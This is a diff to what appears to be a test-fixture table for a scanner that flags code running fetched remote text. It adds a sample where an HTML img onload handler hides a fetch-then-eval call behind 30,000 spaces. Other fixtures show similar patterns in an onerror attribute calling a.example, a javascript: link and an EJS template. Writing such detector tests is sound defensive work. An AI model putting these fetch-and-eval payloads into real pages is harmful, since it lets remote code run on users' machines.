@@ -24,6 +24,7 @@ export const detourSamples: Readonly<Record<string, readonly [string, Files]>> =
   'a file with another ending that is required': ['runs-fetched-text var/boot.log:1', { 'a.js': "require('./var/boot.log');", 'var/boot.log': runs }],
   'a file without an ending that is required': ['runs-fetched-text lib/boot:1', { 'a.js': "const boot = require('./lib/boot');", 'lib/boot': runs }],
   'an attribute of a page': ['runs-fetched-text a.html:2', { 'a.html': `<body>\n<img src="a.png" onload="${fetched.replaceAll('"', "'")}.then(eval)">\n</body>` }],
+  'an attribute of a page behind 30,000 spaces': ['runs-fetched-text a.html:1', { 'a.html': `<img onload="${' '.repeat(30_000)}${fetched.replaceAll('"', "'")}.then(eval)">` }],
   'an attribute of a page with its quotes written for it': ['runs-fetched-text a.html:1', { 'a.html': `<img onerror="fetch(&quot;https://a.example&quot;).then((r) =&gt; r.text()).then((t) =&gt; eval(t))">` }],
   'an address that is a program': ['runs-fetched-text a.html:1', { 'a.html': `<a href="javascript:${fetched}.then(eval)">Start</a>` }],
   'a template of ejs': ['runs-fetched-text views/a.ejs:2', { 'views/a.ejs': `<main>\n<% ${fetched}.then((t) => eval(t)) %>\n<%= title %></main>` }],
